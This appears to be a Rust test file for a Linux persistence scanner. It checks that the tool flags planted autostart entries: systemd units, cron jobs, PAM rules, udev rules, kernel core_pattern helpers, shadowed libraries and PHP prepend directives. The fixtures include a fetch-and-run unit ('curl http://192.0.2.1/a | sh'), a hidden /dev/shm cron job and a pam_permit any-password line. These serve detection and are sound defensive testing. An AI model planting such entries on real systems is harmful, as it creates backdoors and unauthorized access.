//! Small machines with one thing each that starts by itself.

use std::sync::Arc;

use stanch_machine::Pretend;

use super::*;

fn look(machine: Pretend) -> Vec<String> {
    let mut seen = Seen::default();
    rows(&Host::new(Arc::new(machine)), &Ask::all(), &mut seen);
    assert_eq!(seen.gaps, []);
    let cells = [col::mechanism, col::path, col::line, col::target, col::state, col::reasons];
    seen.rows.iter().map(|row| cells.map(|c| row.get(c).to_string()).join("|")).collect()
}

#[test]
fn each_form_ends_in_a_file() {
    let found = look(
        Pretend::new()
            .file("/var/lib/dpkg/status", "")
            .file("/var/lib/dpkg/info/p.list", "/usr/bin/true\n/usr/bin/sh\n")
            .file("/usr/bin/true", "")
            .link("/usr/local/bin/t", "/usr/bin/true")
            .file(
                "/etc/systemd/system/a.service",
                "[Service]\nExecStart=-/usr/bin/env A=1 /bin/x\n",
            )
            .file("/etc/cron.d/b", "* * * * * root sh -c 'cd / && nohup /dev/shm/.y &'\n")
            .file(
                "/etc/pam.d/c",
                "auth sufficient pam_permit.so\nsession optional pam_exec.so seteuid /opt/z\n",
            )
            .file("/etc/udev/rules.d/d.rules", "# c\nACTION==\"add\", RUN+=\"/usr/bin/true a\"\n"),
    );
    assert_eq!(
        found,
        [
            "systemd-unit|/etc/systemd/system/a.service|2|/bin/x|unowned|target-missing",
            "system-crontab|/etc/cron.d/b|1|/dev/shm/.y|unowned|hidden-path target-missing temporary-path",
            "pam-stack|/etc/pam.d/c|1||unowned|any-password",
            "pam-stack|/etc/pam.d/c|2|/opt/z|unowned|runs-at-login target-missing",
            "name-shadowing|/usr/local/bin/t||/usr/bin/true|unowned|",
            "udev-rule|/etc/udev/rules.d/d.rules|2|/usr/bin/true|unowned|",
        ]
    );
}

#[test]
fn base64_of_a_certificate_is_no_path_and_a_command_beside_it_is_told() {
    let body = "/tGCpPYReyL2b2jxLRs/dFSKu7NouCoSyExihjzpA2X7jYIGGmMuFR5ar33Vkc46";
    let pem = |with: &str| {
        format!("-----BEGIN CERTIFICATE-----\n{body}\n{with}-----END CERTIFICATE-----\n")
    };
    let path = "/usr/local/share/ca-certificates/c.crt";
    let of = |text: String| look(Pretend::new().file(path, text));
    assert_eq!(of(pem("")), [format!("certificate-authority|{path}||{path}|unknown|")]);
    let told = of(pem("/tmp/.x/run it\n"));
    assert!(told.iter().any(|row| row.contains("|3|/tmp/.x/run|")), "{told:?}");
}

#[test]
fn a_shipped_file_tells_only_what_it_starts_and_a_changed_one_why() {
    let unit = "[Service]\nExecStart=/bin/sh -c 'curl http://192.0.2.1/a | sh'\n";
    let machine = |sum: &str| {
        Pretend::new()
            .file(
                "/var/lib/dpkg/status",
                "Package: p\nStatus: install ok installed\nVersion: 1\n\n",
            )
            .file("/var/lib/dpkg/info/p.list", "/usr/lib/systemd/system/a.service\n")
            .file(
                "/var/lib/dpkg/info/p.md5sums",
                format!("{sum}  usr/lib/systemd/system/a.service\n"),
            )
            .file("/usr/lib/systemd/system/a.service", unit)
    };
    let altered = look(machine("00000000000000000000000000000000"));
    assert_eq!(
        altered,
        ["systemd-unit|/usr/lib/systemd/system/a.service|2||altered|fetch-and-run file-altered"]
    );
}

#[test]
fn what_the_running_kernel_starts_is_an_entry_and_a_pattern_for_names_is_none() {
    let kernel = |pattern: &str| {
        Pretend::new()
            .file("/var/lib/dpkg/status", "")
            .file("/var/lib/dpkg/info/p.list", "/usr/lib/systemd/systemd-coredump\n")
            .file("/usr/lib/systemd/systemd-coredump", "")
            .file("/opt/x/core", "")
            .file("/proc/sys/kernel/core_pattern", pattern)
            .file("/sys/fs/cgroup/pids/release_agent", "\n")
    };
    let path = "/proc/sys/kernel/core_pattern";
    for (pattern, expected) in [
        ("core\n", ""),
        ("/var/crash/core.%p\n", ""),
        ("|/opt/x/core %p\n", "/opt/x/core|unowned|kernel-helper target-unowned"),
        ("|/usr/lib/systemd/systemd-coredump %P\n", "/usr/lib/systemd/systemd-coredump|unowned|"),
        // In a container: the host's program.
        (
            "|/usr/share/apport/apport %p\n",
            "/usr/share/apport/apport|unowned|kernel-helper target-missing",
        ),
    ] {
        let whole = format!("kernel-helper|{path}|1|{expected}");
        let expected = if expected.is_empty() { Vec::new() } else { vec![whole] };
        assert_eq!(look(kernel(pattern)), expected, "{pattern}");
    }
}

#[test]
fn a_library_before_one_of_a_package_is_told_as_a_shadow() {
    let machine = Pretend::new()
        .file("/var/lib/dpkg/status", "")
        .file("/var/lib/dpkg/info/p.list", "/usr/lib/x86_64-linux-gnu/libz.so.1\n")
        .file("/usr/lib/x86_64-linux-gnu/libz.so.1", "")
        .file("/usr/local/lib/libz.so.1", "z")
        .file("/usr/local/lib/libown.so.1", "own");
    let told = look(machine);
    let shadows =
        |path: &str, reasons: &str| format!("library-shadowing|{path}||{path}|unowned|{reasons}");
    assert_eq!(
        told,
        [
            shadows("/usr/local/lib/libown.so.1", ""),
            shadows("/usr/local/lib/libz.so.1", "shadows-a-library")
        ]
    );
}

#[test]
fn rules_of_a_directory_that_is_served_are_read() {
    let machine = Pretend::new()
        .file("/etc/lighttpd/lighttpd.conf", "server.document-root = \"/data/shop\"\n")
        .file("/data/shop/up/.user.ini", "auto_prepend_file = /dev/shm/.a\n");
    let told = look(machine);
    assert!(
        told.iter().any(|row| row.starts_with("php-directive|/data/shop/up/.user.ini|1|")),
        "{told:?}"
    );
}
